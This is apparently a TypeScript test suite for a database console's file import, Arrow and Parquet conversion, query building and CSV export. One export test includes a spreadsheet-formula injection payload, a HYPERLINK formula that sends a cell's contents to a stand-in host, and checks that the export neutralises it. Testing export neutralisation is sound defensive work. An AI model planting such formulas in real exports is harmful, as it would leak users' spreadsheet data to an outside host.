// The console's data modules outside a browser, with the same apache-arrow release the page loads:
// files a user picks (CSV, JSON lines, Parquet) become the Arrow IPC streams the server takes, query
// answers of a running server become display rows, and the explorer's form becomes QueryTable bodies.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { DateDay, Field, FixedSizeList, Float32, Float64, Int32, List, Schema, Struct, Table, TimestampMillisecond, Utf8, makeVector, tableToIPC, vectorFromArray } from "apache-arrow";
import { parquetReadObjects } from "hyparquet";
import { parquetWriteBuffer } from "hyparquet-writer";
import { type TestServer, expectJson, startTestServer } from "../helpers/test-server.js";
import { importUiModule } from "./console-assets.js";

const csv = await importUiModule("csv.js");
const records = await importUiModule("records-to-arrow.js");
const files = await importUiModule("file-import.js");
const queries = await importUiModule("query-request.js");
const values = await importUiModule("arrow-values.js");
const parquet = await importUiModule("parquet-export.js");
const exports = await importUiModule("export-rows.js");

let server: TestServer;
before(async () => {
  server = await startTestServer();
});
after(() => server?.close());

/** The types of a table's fields, as `name: type` strings. */
const typesOf = (schema: { fields: Array<{ name: string; type: unknown }> }) => schema.fields.map((field) => `${field.name}: ${String(field.type)}`);

test("parseCsv: quoted delimiters, doubled quotes, line breaks in quotes, CRLF and a BOM → the cells as written", () => {
  const text = '\ufeffid,name,note\r\n1,"Smith, Jo","said ""hi""\nthen left"\r\n2,Ann,\r\n\r\n';
  assert.deepEqual(csv.parseCsv(text), { header: ["id", "name", "note"], rows: [["1", "Smith, Jo", 'said "hi"\nthen left'], ["2", "Ann", ""]] });
  assert.deepEqual(csv.parseCsv("a\tb\n1\t2", "\t"), { header: ["a", "b"], rows: [["1", "2"]] });
});

test("parseCsv of a row with more cells than the header, or an unclosed quote → an Error naming the line", () => {
  assert.throws(() => csv.parseCsv("a,b\n1,2\n3,4,5\n"), /line 3: 3 values for 2 columns/);
  assert.throws(() => csv.parseCsv('a,b\n1,"open\n'), /line 2: a quoted field is never closed/);
  assert.throws(() => csv.parseCsv(""), /empty/);
});

test("CSV columns → int64, float64, bool, a float32 vector for equal-length JSON lists, utf8 otherwise; empty cells null", () => {
  const columns = {
    id: ["1", "-2", ""],
    score: ["0.5", "", "1e3"],
    flag: ["true", "FALSE", ""],
    embedding: ["[1, 2.5]", "[3, 4]", ""],
    code: ["007", "x1", ""],
  };
  const typed = Object.fromEntries(Object.entries(columns).map(([name, cells]) => [name, records.csvColumnValues(cells)]));
  assert.deepEqual(typed.id, [1n, -2n, null]);
  assert.deepEqual(typed.score, [0.5, null, 1000]);
  assert.deepEqual(typed.flag, [true, false, null]);
  assert.deepEqual(typed.code, ["007", "x1", null]);
  const table = records.columnsToTable(typed);
  assert.deepEqual(typesOf(table.schema), ["id: Int64", "score: Float64", "flag: Bool", "embedding: FixedSizeList[2]<Float32>", "code: Utf8"]);
  assert.deepEqual(values.tableRows(table).rows, [
    [1n, 0.5, true, [1, 2.5], "007"],
    [-2n, null, false, [3, 4], "x1"],
    [null, 1000, null, null, null],
  ]);
});

test("Rows added to an existing table → each column takes the table's type; a column the table lacks is refused", () => {
  const target = new Schema([new Field("id", new Int32(), false), new Field("label", new Utf8(), true), new Field("vec", new FixedSizeList(2, new Field("item", new Float32(), true)), true)]);
  const table = records.columnsToTable({ id: ["7", "8"], vec: ["[1,2]", null] }, target);
  assert.deepEqual(typesOf(table.schema), typesOf(target));
  assert.equal(table.schema.fields[0].nullable, false);
  assert.deepEqual(values.tableRows(table).rows, [[7, null, [1, 2]], [8, null, null]]);
  assert.throws(() => records.columnsToTable({ id: ["1"], colour: ["red"] }, target), /the table has no column "colour"/);
});

test("A CSV file created as a table through CreateTable → the server holds its rows with the inferred types", async () => {
  const file = new File(["id,city,vec\n1,Oslo,\"[0.5,1]\"\n2,Lima,\"[2,3]\"\n"], "cities.csv");
  const { format, table } = await files.readTableFile(file);
  assert.equal(format, "csv");
  const created = await server.upload("/v1/table/cities/create", files.ipcStream(table));
  await expectJson(created);
  const answer = await server.post("/v1/table/cities/query", { k: 10, vector: null, order_by: [{ column_name: "id" }] });
  const read = values.decodeArrow(new Uint8Array(await answer.arrayBuffer()));
  assert.deepEqual(read.fields.map((field: { name: string; label: string; vector: boolean }) => [field.name, field.label, field.vector]), [
    ["id", "Int64", false],
    ["city", "Utf8", false],
    ["vec", "FixedSizeList[2]<Float32>", true],
  ]);
  assert.deepEqual(read.rows, [[1n, "Oslo", [0.5, 1]], [2n, "Lima", [2, 3]]]);
});

test("JSON lines and Arrow IPC files → their rows; Parquet is recognised by its bytes; other files are refused by name", async () => {
  const jsonl = new File(['{"id": 1, "tags": ["a"], "meta": {"k": 1}}\n\n{"id": 2, "tags": [], "meta": null}\n'], "rows.jsonl");
  const fromJson = (await files.readTableFile(jsonl)).table;
  assert.deepEqual(typesOf(fromJson.schema), ["id: Int64", "tags: List<Utf8>", "meta: Utf8"]);
  assert.deepEqual(values.tableRows(fromJson).rows, [[1n, ["a"], '{"k":1}'], [2n, [], null]]);
  await assert.rejects(files.readTableFile(new File(['{"id": 1}\n{"id": '], "bad.jsonl")), /line 2/);
  await assert.rejects(files.readTableFile(new File(["hello"], "notes.txt")), /"notes.txt" is not Arrow IPC, Parquet, CSV, TSV or JSON lines/);

  const parquet = parquetWriteBuffer({ columnData: [{ name: "id", data: [1, 2], type: "INT32" }, { name: "name", data: ["a", "b"], type: "STRING" }] });
  assert.equal(files.formatOf("x.bin", new Uint8Array(parquet)), "parquet");
  // Arrow IPC is recognised by its bytes whatever the file's name.
  const arrow = files.ipcStream(fromJson);
  const fromArrow = await files.readTableFile(new File([arrow], "rows.bin"));
  assert.equal(fromArrow.format, "arrow");
  assert.deepEqual(values.tableRows(fromArrow.table).rows, values.tableRows(fromJson).rows);
  assert.equal(files.formatOf("rows.arrow", tableToIPC(fromJson, "file")), "arrow");
});

test("A QueryTable answer of every common type, decoded in the console → the values written", async () => {
  await expectJson(await server.upload("/v1/table/mixed/create", files.ipcStream(records.columnsToTable({
    n: [1n, null],
    x: [0.25, 2],
    ok: [true, false],
    words: [["a", "b"], null],
    at: [new Date(Date.UTC(2024, 0, 15, 12, 30)), null],
  }))));
  const answer = await server.post("/v1/table/mixed/query", { k: 10, vector: null });
  assert.deepEqual(values.decodeArrow(new Uint8Array(await answer.arrayBuffer())).rows, [
    [1n, 0.25, true, ["a", "b"], "2024-01-15T12:30:00.000Z"],
    [null, 2, false, null, null],
  ]);
});

test("Parquet export of every common Arrow type → read back, each value as the grid shows it: unsigned as INT64, timestamps, dates, lists, structs as JSON", async () => {
  const at = Date.UTC(2024, 0, 15, 12, 30, 5, 250);
  const table = new Table({
    small: vectorFromArray([7, null], new Int32()),
    big: makeVector(Uint32Array.from([4_000_000_000, 1])),
    single: vectorFromArray([0.5, null], new Float32()),
    at: vectorFromArray([new Date(at), null], new TimestampMillisecond()),
    day: vectorFromArray([new Date(Date.UTC(2024, 1, 29)), null], new DateDay()),
    tags: vectorFromArray([["a", null, ""], null], new List(new Field("item", new Utf8(), true))),
    point: vectorFromArray([{ x: 1.5, y: -2 }, null], new Struct([new Field("x", new Float64(), true), new Field("y", new Float64(), true)])),
  });
  const { fields, rows } = values.decodeArrow(tableToIPC(table, "file"));
  const file = parquetWriteBuffer(parquet.parquetOptions(fields, rows));
  const read = await parquetReadObjects({ file });
  assert.deepEqual(read[0], { small: 7, big: 4_000_000_000n, single: 0.5, at: new Date(at), day: new Date(Date.UTC(2024, 1, 29)), tags: ["a", null, ""], point: { x: 1.5, y: -2 } });
  assert.deepEqual({ ...read[1], tags: read[1]?.tags ?? null }, { small: null, big: 1n, single: null, at: null, day: null, tags: null, point: null });
});

test("CSV export of a QueryTable answer → text a spreadsheet would run as a formula (=, +, -, @, tab) written as text, ' first and quoted; negative numbers of number columns stay numbers", async () => {
  const link = '=HYPERLINK("http://example.invalid/?d="&A1,"open")';
  await expectJson(await server.upload("/v1/table/formulas/create", files.ipcStream(new Table({
    n: vectorFromArray([-5, 1, 2, 3, 4, 5, 6, 7], new Int32()),
    x: vectorFromArray([-2.25, 0.5, 1, 1, 1, 1, 1, 1], new Float64()),
    label: vectorFromArray([link, "+1", "-2", "@SUM(A1)", "\tcmd", "a-b", "", null], new Utf8()),
  }))));
  const answer = await server.post("/v1/table/formulas/query", { k: 10, vector: null });
  const { fields, rows } = values.decodeArrow(new Uint8Array(await answer.arrayBuffer()));
  const text: string = exports.toCsv(fields, rows);
  assert.deepEqual(text.split("\r\n"), [
    "n,x,label",
    `-5,-2.25,"'=HYPERLINK(""http://example.invalid/?d=""&A1,""open"")"`,
    `1,0.5,"'+1"`,
    `2,1,"'-2"`,
    `3,1,"'@SUM(A1)"`,
    `4,1,"'\tcmd"`,
    "5,1,a-b",
    `6,1,""`,
    "7,1,",
    "",
  ]);
  // Read back as CSV, each neutralised cell is its text with the ' before it.
  assert.deepEqual(csv.parseCsv(text).rows.map((row: string[]) => row[2]), [`'${link}`, "'+1", "'-2", "'@SUM(A1)", "'\tcmd", "a-b", "", ""]);
});

test("queryRequest: a filtered sorted page, a vector search with a filter, a text search → the QueryTable bodies", () => {
  const base = { at: { version: 3 }, filter: " id > 1 ", columns: ["id"], sort: { column: "id", ascending: false }, pageSize: 50, page: 2 };
  assert.deepEqual(queries.queryRequest({ ...base, mode: "rows" }), {
    k: 50, vector: null, offset: 100, version: 3, filter: "id > 1", columns: { column_names: ["id"] }, order_by: [{ column_name: "id", ascending: false }],
  });
  assert.deepEqual(queries.queryRequest({ ...base, mode: "vector", vector: [1, 2], vectorColumn: "vec", distanceType: "cosine", page: 0, at: {} }), {
    k: 50, vector: { single_vector: [1, 2] }, filter: "id > 1", columns: { column_names: ["id"] }, vector_column: "vec", distance_type: "cosine", prefilter: true,
  });
  assert.deepEqual(queries.queryRequest({ mode: "text", text: "zebra", columns: null, filter: "", pageSize: 10, page: 0, at: { version: 2, branch: "dev" } }), {
    k: 10, vector: null, version: 2, branch: "dev", full_text_query: { string_query: { query: "zebra" } },
  });
  assert.deepEqual(queries.parseVector("[0.5, -1e2 3]"), [0.5, -100, 3]);
  assert.throws(() => queries.parseVector("1, two"), /entry 2 of the query vector \("two"\) is not a number/);
  assert.equal(queries.pageCaption(1, 100, 100, 5000), "Rows 101–200 of 5,000");
  assert.equal(queries.pageCaption(0, 10, 0, undefined), "No rows");
});
